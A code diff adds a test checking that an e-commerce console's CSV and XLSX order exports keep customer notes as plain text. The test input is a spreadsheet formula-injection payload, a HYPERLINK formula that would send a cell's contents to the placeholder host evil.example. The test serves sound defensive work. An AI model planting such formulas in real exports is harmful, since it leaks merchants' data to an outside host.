@@ -148,3 +148,26 @@ async def test_shipping_notes_print_for_the_selection(client, db, login, console
     assert single.status_code == 200 and single.content.startswith(b"%PDF")
     analyst = await console("analyst")
     assert (await analyst.get(f"/console/orders/{numbers[0]}/shipping-note.pdf")).status_code == 403
+
+
+async def test_a_customer_note_never_becomes_a_formula_in_the_merchant_export(client, db, login, console):
+    """A note starting with "=" would run as a formula in the merchant's spreadsheet, and a
+    control character cannot be stored in an XLSX file at all: both exports stay text."""
+    api = await login("owner")
+    cup = await make_sku(db, stock=10)
+    note = '=HYPERLINK("http://evil.example/?"&A1,"詳情")\x07'
+    number = await place(client, api, (cup, 1), note=note)
+    page = await console("analyst")
+    as_csv = await page.post(
+        "/console/orders/bulk", data={"csrf_token": page.csrf, "action": "export_csv", "number": [number]}
+    )
+    (row,) = csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig")))
+    assert row["note"].startswith("'=HYPERLINK(")
+    as_xlsx = await page.post(
+        "/console/orders/bulk", data={"csrf_token": page.csrf, "action": "export_xlsx", "number": [number]}
+    )
+    assert as_xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    header, values = list(sheet.iter_rows(max_row=2))
+    cell = values[[c.value for c in header].index("note")]
+    assert cell.data_type == "s" and cell.value == note.rstrip("\x07")
